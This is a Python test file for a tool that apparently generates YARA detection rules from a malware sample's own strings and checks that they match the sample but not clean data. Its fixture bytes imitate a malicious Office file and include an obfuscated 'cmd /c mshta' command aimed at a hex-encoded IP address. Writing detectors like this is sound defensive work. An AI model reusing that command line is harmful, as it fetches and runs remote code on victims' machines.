"""YARA rules: strings of the sample's own, compiled and run by yara-x."""

import random

import pytest
import yara_x

from sekisho.respond import yara
from sekisho.respond.yara import Sample

OLE = bytes.fromhex("d0cf11e0a1b11ae1")
OWN = b"cmd /c m^sh^t^a h^tt^p^:/^/0xcb00710a/", b"QWER.dll,KitKat export", b"ACH Form quarter 7"
WIDE = "Ttjhg.YlScZ folder".encode("utf-16-le")
SHARED = b"a letterhead that everybody has"
BODY = OLE + b"\0\1".join((*OWN, WIDE, SHARED)) + b"\0"


def rule(data, *clean, name="a.xls", hide=lambda text: text):
    return yara.rules([Sample(name, "ab" * 32, data)], clean, "i0123456789ab", 'X "q" 社', hide)[0]


def hits(made, data):
    return bool(yara_x.compile(made.text).scan(data).matching_rules)


def test_a_rule_hits_its_sample_and_not_what_is_clean():
    clean = [SHARED, OLE + SHARED, b"other text " * 9]
    made = rule(BODY, *clean)
    assert hits(made, BODY)
    assert made.matches(BODY)
    assert not any(hits(made, one) or made.matches(one) for one in clean)
    assert SHARED not in made.strings
    assert WIDE in made.strings


def test_most_of_the_strings_must_be_there_and_the_format_must_be_the_same():
    made = rule(BODY, SHARED)
    assert (len(made.strings), made.least) == (4, 3)
    for data, expected in (
        (OLE + OWN[0] + b"\0" + OWN[1], False),
        (OLE + b"\0".join(OWN), True),
        (b"MZ" + b"\0".join(OWN), False),
    ):
        assert hits(made, data) is expected
        assert made.matches(data) is expected


def test_too_few_strings_give_no_rule():
    assert rule(OLE + OWN[0]).text == ""
    assert rule(b"").text == ""
    assert rule(BODY, BODY).text == ""


def test_strings_with_victims_names_are_not_used():
    made = rule(BODY, SHARED, hide=lambda text: text.replace("ACH Form", "<user>"))
    assert OWN[2] not in made.strings


def test_what_everybody_writes_is_not_used():
    data = BODY + b"\0Microsoft Office Excel 2016 workbook\0This program cannot be run in DOS mode\0"
    assert not any(b"Excel 2016" in one or b"DOS mode" in one for one in rule(data).strings)


@pytest.mark.parametrize("seed", range(5))
def test_rules_of_any_bytes_compile_and_hit(seed):
    dice = random.Random(seed)
    letters = bytes(range(32, 127)) + b'\\"{}/*\n\0'
    for _ in range(20):
        data = bytes(dice.choice(letters) for _ in range(dice.randrange(50, 3000)))
        made = rule(data)
        if made.text:
            assert hits(made, data)
            assert made.matches(data)
